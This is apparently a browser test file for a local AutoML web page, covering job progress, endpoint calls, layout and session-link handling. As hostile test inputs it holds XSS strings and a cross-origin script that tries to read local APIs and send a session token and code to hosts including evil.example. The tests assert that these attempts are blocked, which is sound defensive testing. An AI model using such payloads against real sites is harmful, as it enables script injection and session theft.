"""The local cloud's page in a real browser: a job as it trains, an endpoint that answers."""

import json
import time

import pytest

from cdk_automlv2.cli.page import link

from . import browser, devtools, test_training
from .devtools import AUDIT, AUDITED, AXE, OVERFLOW, SCREENS
from .fake_world import wait_for
from .gateway import allow, role, running
from .page import TOKEN, Page

pytestmark = [pytest.mark.browser, browser.NEEDED]

HOSTILE = "<img src=x onerror=alert(1)><script>alert(2)</script>\u202eevil\x1b[2J"
LABEL = "<b onclick='alert(1)'>a & b</b>"


@pytest.fixture(scope="module")
def tab(tmp_path_factory):
    with devtools.tab(tmp_path_factory.mktemp("profile")) as opened:
        yield opened


@pytest.fixture(scope="module")
def servers(tmp_path_factory):
    """A local cloud of its own: what other tests have made does not stand on the page."""
    with running(tmp_path_factory.mktemp("page")) as cloud:
        yield cloud


@pytest.fixture(scope="module")
def job(servers):
    """A job whose training has not ended, if the page looks at once."""
    table = test_training.iris().replace({"species": {"setosa": LABEL}})
    s3 = servers.client("s3")
    s3.create_bucket(Bucket="pages")
    s3.put_object(Bucket="pages", Key="train/iris.csv", Body=table.to_csv(index=False).encode())
    source = {"S3DataType": "S3Prefix", "S3Uri": "s3://pages/train/"}
    limits = {"CompletionCriteria": {"MaxCandidates": 3}}
    servers.client("sagemaker").create_auto_ml_job_v2(
        AutoMLJobName="flowers",
        AutoMLJobInputDataConfig=[{"DataSource": {"S3DataSource": source}}],
        OutputDataConfig={"S3OutputPath": "s3://pages/out/"},
        AutoMLProblemTypeConfig={"TabularJobConfig": {"TargetAttributeName": "species", **limits}},
        RoleArn=role(servers, "page-job", allow("s3:*")),
    )
    return "flowers"


def deploy(servers, name):
    """Serve the best candidate of a job."""
    sagemaker = servers.client("sagemaker")
    best = sagemaker.describe_auto_ml_job_v2(AutoMLJobName=name)["BestCandidate"]
    sagemaker.create_model(
        ModelName=name,
        ExecutionRoleArn=role(servers, "page-model", allow("s3:*")),
        Containers=best["InferenceContainers"],
    )
    variant = {"VariantName": "only", "ModelName": name, "InitialInstanceCount": 1}
    sagemaker.create_endpoint_config(
        EndpointConfigName=name, ProductionVariants=[{**variant, "InstanceType": "ml.m5.large"}]
    )
    sagemaker.create_endpoint(EndpointName=name, EndpointConfigName=name)


def cells(tab, table):
    """What stands in a table; nothing where it only says that it is empty."""
    rows = f"[...document.querySelectorAll('#table-{table} tbody tr')].filter(row => row.cells[1])"
    return tab.run(f"{rows}.map(row => [...row.cells].map(cell => cell.textContent))")


def text(tab, id):
    return tab.run(f"document.getElementById({id!r})?.textContent ?? ''")


def ends(tab):
    """The job's row, once it has ended."""
    return next((row for row in cells(tab, "jobs") if row[1] in ("Completed", "Failed")), None)


def lost(tab):
    """What the page says where it shows nothing."""
    return text(tab, "state") if tab.run("!!document.querySelector('#state.lost')") else ""


def send(tab, rows):
    tab.run(f"document.getElementById('rows').value = {json.dumps(rows)}")
    tab.run("document.getElementById('send').click()")
    return wait_for(lambda: not tab.run("document.getElementById('send').disabled"))


def test_a_job_is_seen_as_it_trains_and_its_endpoint_answers(servers, job, tab, tmp_path):
    logs = servers.client("logs")
    logs.create_log_group(logGroupName="hostile")
    logs.create_log_stream(logGroupName="hostile", logStreamName="x")
    tab.look_like(1280, 900, dark=False)
    address = link.link_to(servers)

    tab.open(address)
    origin = address.partition("/page#")[0]
    assert tab.run("location.href") == f"{origin}/page"
    [seen] = wait_for(lambda: [row for row in cells(tab, "jobs") if row[0] == job])
    tab.run("window.here = true; document.querySelector('#table-jobs button').focus()")
    ended = wait_for(lambda: ends(tab), 90)
    assert ended[:2] == [job, "Completed"]
    assert seen != ended  # It came by itself, without another page.
    board = wait_for(lambda: [row for row in cells(tab, "board") if "★" in row[0]])
    assert board[0][1] == "Completed"
    assert tab.run("window.here === true && document.activeElement.textContent") == job

    deploy(servers, job)
    logs.put_log_events(
        logGroupName="hostile",
        logStreamName="x",
        logEvents=[{"timestamp": int(time.time() * 1000), "message": HOSTILE}],
    )
    wait_for(lambda: [row for row in cells(tab, "endpoints") if row[1] == "InService"], 60)
    features = test_training.iris().drop(columns="species")
    send(tab, features.head(1).to_csv(header=False, index=False))
    assert LABEL in text(tab, "answer"), text(tab, "answer-state")
    assert "text/csv" in text(tab, "answer-state")
    [line] = wait_for(lambda: [row for row in cells(tab, "logs") if row[1] == "hostile"])
    assert line[2] == HOSTILE.replace("\u202e", "\\u202e").replace("\x1b", "\\x1b")
    assert tab.run("document.querySelectorAll('img, main script, main b').length") == 0
    row = tmp_path / "row.csv"
    row.write_text(features.tail(1).to_csv(header=False, index=False))
    tab.run("document.getElementById('answer').textContent = ''")
    tab.set_file("#file", row)
    send(tab, "")
    assert "virginica" in text(tab, "answer")
    tab.run("document.getElementById('file').value = ''")
    assert tab.messages == []
    assert {url.partition("?")[0].removeprefix(origin) for url in tab.requests} <= {
        *("/page", "/page.js", "/page.css", "/session", "data:,"),
        *("/api/overview", "/api/job", "/api/logs", "/api/invoke"),
    }


def test_the_page_is_whole_on_every_screen(servers, job, tab):
    for width, dark in SCREENS:
        tab.look_like(width, 900, dark=dark)
        tab.open("about:blank")
        tab.open(link.link_to(servers))
        wait_for(lambda: [row for row in cells(tab, "jobs") if row[0] == job])
        wait_for(lambda: cells(tab, "board"))
        where = f"{width}, {'dark' if dark else 'light'}"
        assert tab.run(OVERFLOW) <= 0, where
        assert tab.messages == [], where
        if AXE.is_file() and (width, dark) in AUDITED:
            tab.run(f"{AXE.read_text()};0")
            assert tab.run(AUDIT) == [], where


def test_what_goes_wrong_is_said_with_the_next_command(servers, job, tab):
    tab.look_like(1280, 900, dark=False)
    tab.open("about:blank")
    tab.open(link.link_to(servers))
    wait_for(lambda: tab.run("document.getElementById('endpoint').value"))

    send(tab, "")
    assert text(tab, "answer-state") == "Choose an endpoint, and give a row or a file."
    send(tab, "1,2")
    assert "next: automlv2 logs flowers --local" in text(tab, "answer-state")


def test_a_tab_without_a_link_says_how_to_get_one(servers, tab):
    tab.open(link.link_to(servers).partition("#")[0])
    tab.run("sessionStorage.clear()")
    tab.open(link.link_to(servers).partition("#")[0])

    assert "automlv2 local page" in wait_for(lambda: lost(tab))
    assert cells(tab, "jobs") == []


def test_a_link_that_was_used_says_how_to_get_another_which_the_same_tab_takes(servers, tab):
    address = link.link_to(servers)
    tab.open("about:blank")
    tab.open(address)
    wait_for(lambda: text(tab, "state") == "Live")
    tab.run("sessionStorage.clear()")
    tab.open("about:blank")

    tab.open(address)
    assert "used before" in wait_for(lambda: lost(tab))
    tab.run(f"location.href = {link.link_to(servers)!r}")
    wait_for(lambda: text(tab, "state") == "Live")


FOREIGN_SCRIPT = """
const token = {"%(header)s": "%(token)s"};
async function read(url, options) {
  try { return (await fetch(url, options)).status + "" } catch (error) { return "unread" }
}
(async () => {
  const found = {};
  for (const host of ["127.0.0.1", "localhost", "evil.example"]) {
    const at = `http://${host}:%(port)s`;
    for (const path of ["/page", "/page.js", "/api/overview", "/api/logs"]) {
      found[`${at}${path}`] = await read(at + path);
      found[`${at}${path} with the token`] = await read(at + path, {headers: token});
    }
    const post = {method: "POST", body: "5.1,3.5,1.4,0.2"};
    const invoke = at + "/api/invoke?endpoint=flowers";
    found[`${at} posts`] = await read(invoke, {...post, headers: token});
    await read(invoke, {...post, mode: "no-cors"});
    await read(at + "/session", {method: "POST", mode: "no-cors", body: "%(code)s"});
    navigator.sendBeacon(at + "/session", "%(code)s");
  }
  await fetch("/result", {method: "POST", body: JSON.stringify(found)});
})();
"""


def test_a_page_of_another_origin_reads_and_sends_nothing_even_with_token_and_code(
    servers, tmp_path
):
    page, code = Page(servers), link.link_to(servers).partition("#")[2]
    given = {"header": TOKEN, "token": page.token, "port": page.port, "code": code}

    with browser.visited(FOREIGN_SCRIPT % given, tmp_path) as visited:
        found = visited.wait()

    assert len(found) == 27
    assert set(found.values()) == {"unread"}
    assert page.begin(code)[0] == 200  # The code is not used up.
